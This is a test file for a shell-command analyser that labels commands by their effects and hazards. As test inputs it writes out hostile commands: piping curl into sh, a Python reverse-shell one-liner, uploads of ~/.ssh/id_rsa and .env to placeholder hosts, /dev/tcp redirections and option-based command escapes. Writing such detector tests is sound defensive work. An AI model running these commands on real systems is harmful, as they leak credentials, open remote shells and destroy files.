import { describe, expect, it } from 'vitest';
import { analyzeShell, awkProgramIsPlain, scanSedScript, type Effect } from '../index.ts';

function effects(command: string): Effect[] {
  return analyzeShell(command).commands.flatMap((c) => c.effects);
}

function kinds(command: string): string[] {
  return effects(command).map((e) =>
    e.kind === 'hazard'
      ? `hazard:${e.hazard.code}`
      : e.kind === 'read' || e.kind === 'write' || e.kind === 'delete'
        ? `${e.kind}:${e.path.pattern ?? '?'}${e.path.recursive ? '/**' : ''}`
        : e.kind === 'code'
          ? `code:${e.lang}:${e.via}`
          : e.kind === 'net'
            ? `net:${e.host ?? '?'}`
            : e.kind === 'exec'
              ? `exec:${e.argv.map((a) => a ?? '…').join(' ')}`
              : `${e.kind}:${'name' in e ? e.name : 'what' in e ? e.what : ''}`,
  );
}

describe('wrappers are unwrapped by their own option grammars', () => {
  const cases: [string, string][] = [
    ['env -i A=1 rm /tmp/v', 'delete:/tmp/v'],
    ['env -u X rm /tmp/v', 'delete:/tmp/v'],
    ['timeout -s KILL -k 5 10 rm /tmp/v', 'delete:/tmp/v'],
    ['timeout 10s rm /tmp/v', 'delete:/tmp/v'],
    ['nice -n 5 rm /tmp/v', 'delete:/tmp/v'],
    ['nice -5 rm /tmp/v', 'delete:/tmp/v'],
    ['nohup rm /tmp/v', 'delete:/tmp/v'],
    ['stdbuf -oL -e0 rm /tmp/v', 'delete:/tmp/v'],
    ['setsid -f rm /tmp/v', 'delete:/tmp/v'],
    ['time -p rm /tmp/v', 'delete:/tmp/v'],
    ['xargs -n1 rm /tmp/v', 'delete:/tmp/v'],
    ['find . -exec rm /tmp/v {} +', 'delete:/tmp/v'],
    ['find . -execdir rm /tmp/v \\;', 'delete:/tmp/v'],
    ['find . -ok rm /tmp/v \\;', 'delete:/tmp/v'],
    ['sudo -u root rm /tmp/v', 'delete:/tmp/v'],
    ['flock /tmp/l rm /tmp/v', 'delete:/tmp/v'],
    ['flock -c "rm /tmp/v" /tmp/l', 'delete:/tmp/v'],
    ['watch -n 1 rm /tmp/v', 'delete:/tmp/v'],
    ['watch -x rm /tmp/v', 'delete:/tmp/v'],
    ['busybox rm /tmp/v', 'delete:/tmp/v'],
    ["sh -c 'rm /tmp/v'", 'delete:/tmp/v'],
    ["bash -lc 'rm /tmp/v'", 'delete:/tmp/v'],
    ["dash -e -c 'rm /tmp/v'", 'delete:/tmp/v'],
    ['zsh -c \'bash -c "rm /tmp/v"\'', 'delete:/tmp/v'],
    ['exec rm /tmp/v', 'delete:/tmp/v'],
    ["eval 'rm /tmp/v'", 'delete:/tmp/v'],
    ['command -p rm /tmp/v', 'delete:/tmp/v'],
    ['ionice -c 3 rm /tmp/v', 'delete:/tmp/v'],
  ];
  it.each(cases)('%s', (command, expected) => {
    expect(kinds(command)).toContain(expected);
  });

  it('refuses env -S (it splits a string by its own rules)', () => {
    expect(kinds("env -S 'rm /tmp/v'")).toContain('hazard:opaque-option');
  });

  it('treats code the command does not show as unseen, and script files as code it runs', () => {
    for (const command of [
      'bash',
      'curl x | sh',
      'sh -c "$X"',
      'source <(curl x)',
      'eval "$x"',
      'cat f | python3',
    ]) {
      expect(kinds(command), command).toContain('hazard:unseen-code');
    }
    for (const command of ['sh x.sh', 'source x.sh', '. x.sh', 'bash scripts/test.sh']) {
      expect(kinds(command), command).toContain('code:shell:file');
      expect(kinds(command), command).not.toContain('hazard:unseen-code');
    }
    // A quoted heredoc shows the script: it is judged command by command.
    expect(kinds("sh <<'EOF'\nrm /tmp/v\nEOF")).toContain('delete:/tmp/v');
  });

  it('a wrapper hides nothing from the command rules: the exec is the inner program', () => {
    expect(kinds('timeout 120 npm test')).toEqual(['exec:npm test']);
    expect(kinds('command -v rm')).toEqual([]);
  });
});

describe('option grammars', () => {
  it('rm: clusters, long options and -- all delete', () => {
    for (const command of [
      'rm -rf /tmp/v',
      'rm -fr /tmp/v',
      'rm -r -f /tmp/v',
      'rm --recursive --force /tmp/v',
      'rm --rec /tmp/v',
      'rm -- /tmp/v',
      'rm -"r"f /tmp/v',
    ]) {
      expect(kinds(command), command).toContain('delete:/tmp/v');
    }
    expect(kinds('rm -rf /tmp/v')).toContain('delete:/tmp/v/**');
    expect(kinds('rm /tmp/v')).not.toContain('delete:/tmp/v/**');
  });

  it('sed: e, w, r and s///e, s///w', () => {
    expect(scanSedScript('s/a/b/e').executes).toBe(true);
    expect(scanSedScript('1e rm -rf x').executes).toBe(true);
    expect(scanSedScript('w /tmp/out').writes).toEqual(['/tmp/out']);
    expect(scanSedScript('s/a/b/w /tmp/out').writes).toEqual(['/tmp/out']);
    expect(scanSedScript('r /etc/x').reads).toEqual(['/etc/x']);
    expect(scanSedScript('s/a/b/g; 1,5p; /x/d').executes).toBe(false);
    expect(scanSedScript('s|a|b|g').unknown).toBe(false);
    expect(scanSedScript('s/a\\/b/c/').writes).toEqual([]);
    expect(kinds("sed -i 's/a/b/' src/x.ts")).toContain('write:./src/x.ts');
    expect(kinds("sed -n 'w ~/.bashrc' x")).toContain('write:~/.bashrc');
    expect(kinds("sed --expression='1e id' x")).toContain('hazard:unseen-code');
    expect(kinds('sed -f script.sed x')).toContain('hazard:unseen-code');
  });

  it('awk: system, pipes, getline and redirection are code', () => {
    expect(awkProgramIsPlain('{print $1}')).toBe(true);
    expect(awkProgramIsPlain('{print "a|b"}')).toBe(true);
    expect(awkProgramIsPlain('BEGIN{system("id")}')).toBe(false);
    expect(awkProgramIsPlain('{print | "sh"}')).toBe(false);
    expect(awkProgramIsPlain('{"date" | getline d}')).toBe(false);
    expect(awkProgramIsPlain('{print > "/tmp/x"}')).toBe(false);
    expect(kinds("awk -F, '{print $1}' data.csv")).toEqual([
      'read:./data.csv',
      'exec:awk -F, {print $1} data.csv',
    ]);
  });

  it('sort: -o in a cluster, --compress-program and its GNU abbreviation', () => {
    expect(kinds('sort -uo ~/.bashrc x')).toContain('write:~/.bashrc');
    expect(kinds('sort --output=/tmp/o x')).toContain('write:/tmp/o');
    expect(kinds('sort --compress-prog=sh x')).toContain('hazard:escape-hatch');
    expect(kinds('sort --compress-program sh x')).toContain('hazard:escape-hatch');
    expect(kinds('sort --compress-program gzip x')).not.toContain('hazard:escape-hatch');
  });

  it('rg: --pre runs a program, plain searches read', () => {
    expect(kinds('rg --pre=sh x .')).toContain('hazard:escape-hatch');
    expect(kinds('rg --pre sh x .')).toContain('hazard:escape-hatch');
    expect(kinds("rg -n foo src -g '*.ts'")).toContain('read:./src/**');
  });

  it('git: global options, config keys and subcommand options that run things', () => {
    expect(kinds('git -C sub --no-pager log -1')).toContain('exec:git log -1');
    expect(kinds('git -c color.ui=always status')).not.toContain('hazard:opaque-option');
    expect(kinds("git -c core.pager='sh -c id' log")).toContain('hazard:escape-hatch');
    expect(kinds('git -c core.pager=cat log')).not.toContain('hazard:escape-hatch');
    expect(kinds("git -c alias.x='!id' x")).toContain('hazard:escape-hatch');
    expect(kinds('git -c alias.st=status st')).not.toContain('hazard:escape-hatch');
    expect(kinds('git --config-env=core.pager=X log')).toContain('hazard:escape-hatch');
    expect(kinds('git --exec-path=/tmp status')).toContain('hazard:opaque-option');
    expect(kinds("git ls-remote --upload-pack='rm /tmp/v' .")).toContain('hazard:escape-hatch');
    expect(kinds("git difftool -x 'rm /tmp/v' HEAD")).toContain('delete:/tmp/v');
    expect(kinds("git rebase --exec 'rm /tmp/v' HEAD~1")).toContain('delete:/tmp/v');
    expect(kinds('git diff --ext-diff')).toContain('hazard:opaque-option');
    expect(kinds('git log --output=/tmp/x')).toContain('write:/tmp/x');
    expect(kinds('git config core.hooksPath /tmp/h')).toContain('hazard:escape-hatch');
    expect(kinds('git config user.name x')).not.toContain('hazard:escape-hatch');
    expect(kinds('git clean -fdx')).toContain('delete:./**');
    expect(kinds('git clean -f -d -x')).not.toContain('hazard:unseen-code');
    expect(kinds('git show HEAD:.env')).toContain('read:./.env');
    expect(kinds('git fetch origin')).toContain('net:?');
  });

  it('tar: -I, --to-command, --checkpoint-action, old-style clusters', () => {
    expect(kinds("tar -I 'rm /tmp/v' -cf o.tar x")).toContain('hazard:escape-hatch');
    expect(kinds("tar --use-compress-prog='rm /tmp/v' -cf o.tar x")).toContain('hazard:escape-hatch');
    expect(kinds("tar --to-command='rm /tmp/v' -xf o.tar")).toContain('hazard:escape-hatch');
    expect(kinds("tar -cf o.tar x --checkpoint=1 --checkpoint-action=exec='rm /tmp/v'")).toContain(
      'hazard:escape-hatch',
    );
    expect(kinds("tar -I 'zstd -19' -cf o.tar.zst x")).not.toContain('hazard:escape-hatch');
    expect(kinds('tar czf out.tgz dist')).toEqual(
      expect.arrayContaining(['write:./out.tgz', 'read:./dist/**']),
    );
    expect(kinds('tar -xf a.tar -C /etc')).toContain('write:/etc/**');
  });

  it('zip -TT, rsync -e, ssh -o ProxyCommand, scp -S, man --html/-P, less +cmd', () => {
    expect(kinds("zip -T -TT 'rm /tmp/v' a.zip x")).toContain('hazard:escape-hatch');
    expect(kinds("rsync -e 'rm /tmp/v' h:x .")).toContain('hazard:escape-hatch');
    expect(kinds("rsync -e 'ssh -p 2222' h:x .")).not.toContain('hazard:escape-hatch');
    expect(kinds("ssh -o ProxyCommand='id' host")).toContain('hazard:unseen-code');
    expect(kinds('ssh -oProxyCommand=id host')).toContain('hazard:unseen-code');
    expect(kinds("man --html='rm /tmp/v' ls")).toContain('delete:/tmp/v');
    expect(kinds("man -P 'rm /tmp/v' ls")).toContain('hazard:escape-hatch');
    expect(kinds("less '+!id' x")).toContain('hazard:escape-hatch');
    expect(kinds('less +G build.log')).toEqual(['read:./build.log', 'exec:less +G build.log']);
  });

  it('dd, cp, mv, tee, install, truncate, ln', () => {
    expect(kinds('dd if=~/.ssh/id_rsa of=/tmp/o')).toEqual(
      expect.arrayContaining(['read:~/.ssh/id_rsa', 'write:/tmp/o']),
    );
    expect(kinds('cp -r a /tmp/o')).toEqual(expect.arrayContaining(['read:./a', 'write:/tmp/o']));
    expect(kinds('cp -t /tmp/o a b')).toContain('write:/tmp/o');
    expect(kinds('mv a /tmp/o')).toEqual(expect.arrayContaining(['delete:./a', 'write:/tmp/o']));
    expect(kinds('tee -a ~/.profile')).toContain('write:~/.profile');
    expect(kinds('install -m 0755 p ~/.local/bin/git')).toContain('write:~/.local/bin/git');
    expect(kinds('truncate -s 0 /tmp/o')).toContain('write:/tmp/o');
    expect(kinds('ln -s ~/.ssh/id_rsa notes.txt')).toEqual(
      expect.arrayContaining(['read:~/.ssh/id_rsa', 'write:./notes.txt']),
    );
  });

  it('curl and wget: hosts, uploads and output files', () => {
    expect(kinds('curl -s https://example.com/x')).toContain('net:example.com');
    expect(kinds('curl -T ~/.ssh/id_rsa https://h/')).toContain('read:~/.ssh/id_rsa');
    expect(kinds('curl -d @.env https://h/')).toContain('read:./.env');
    expect(kinds('curl -F f=@.env https://h/')).toContain('read:./.env');
    expect(kinds('curl -o ~/.bashrc https://h/')).toContain('write:~/.bashrc');
    expect(kinds('curl -K cfg https://h/')).toContain('hazard:opaque-option');
    expect(kinds('wget -O /tmp/x https://h/')).toContain('write:/tmp/x');
    expect(kinds('wget --post-file=.env https://h/')).toContain('read:./.env');
  });

  it('package managers: installs reach the network and run package code', () => {
    expect(kinds('npm install left-pad')).toEqual(expect.arrayContaining(['net:registry:npm']));
    expect(kinds('npm test')).toEqual(['exec:npm test']);
    expect(kinds('npx -y cowsay')).toContain('code:npm-package:unknown');
    expect(kinds('npx tsc --noEmit')).toEqual(['exec:npx tsc --noEmit']);
    expect(kinds('pip install -r req.txt')).toEqual(
      expect.arrayContaining(['net:registry:pypi', 'read:./req.txt']),
    );
    expect(kinds('make -f - <<< x')).toContain('hazard:unseen-code');
    // Variable overrides change recipes, which run inside the sandbox like the makefile itself.
    expect(kinds("make CC='rm -rf /'")).toEqual(['exec:make CC=rm -rf /']);
    expect(kinds("make SHELL='sh -x'")).toContain('hazard:opaque-option');
    expect(kinds('make -j$(nproc)')).not.toContain('hazard:argument-injection');
    expect(kinds('make --eval=x')).toContain('hazard:escape-hatch');
  });

  it('interpreters: inline code, script files, stdin and inert version queries', () => {
    expect(kinds("python3 -c 'print(1)'")).toContain('code:python:inline');
    expect(kinds('python3 script.py')).toContain('code:python:file');
    expect(kinds("python3 - <<'PY'\nx\nPY")).toContain('code:python:stdin');
    expect(kinds('python3 -m pip install x')).toContain('net:registry:pypi');
    // Inline code is scanned for what crosses the boundary: hosts, files, variables, reverse shells.
    expect(kinds(`python3 -c 'import urllib.request as r; r.urlopen("https://h.example/x")'`)).toContain(
      'net:h.example',
    );
    expect(kinds(`python3 -c 'print(open(".env").read())'`)).toContain('read:./.env');
    expect(kinds(`node -e 'console.log(process.env.GITHUB_TOKEN)'`)).toContain('env-read:GITHUB_TOKEN');
    expect(
      kinds(`python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'`),
    ).toContain('hazard:reverse-shell');
    expect(kinds('perl -ne print ~/.ssh/id_rsa')).toContain('read:~/.ssh/id_rsa');
    expect(kinds('python3 -m pytest -k "a and b"')).toEqual(['exec:python3 -m pytest -k a and b']);
    expect(kinds("node -e 'x'")).toContain('code:javascript:inline');
    expect(kinds('node --version')).toEqual(['exec:node --version']);
    expect(kinds("perl -e 'x'")).toContain('code:perl:inline');
    expect(kinds("ruby -e 'x'")).toContain('code:ruby:inline');
    expect(kinds("lua -e 'x'")).toContain('code:lua:inline');
    expect(kinds("php -r 'x'")).toContain('code:php:inline');
  });

  it('builtins that change shell state or read the environment', () => {
    expect(kinds('env')).toContain('env-read:(all)');
    expect(kinds('set')).toContain('env-read:(all)');
    expect(kinds('declare -p')).toContain('env-read:(all)');
    expect(kinds('printenv HOME')).toContain('env-read:HOME');
    expect(kinds('set -euo pipefail')).toEqual(['exec:set -euo pipefail']);
    expect(kinds("alias ls='rm'")).toContain('state-change:alias');
    expect(kinds("trap 'rm /tmp/v' EXIT")).toEqual(
      expect.arrayContaining(['state-change:trap', 'delete:/tmp/v']),
    );
    expect(kinds('hash -p /bin/sh git')).toContain('state-change:hash');
    expect(kinds('export A=1')).toEqual(expect.arrayContaining(['state-change:export', 'env-change:A']));
    expect(kinds('exec 3<>/dev/tcp/h/80')).toContain('state-change:exec (persistent redirections)');
  });
});
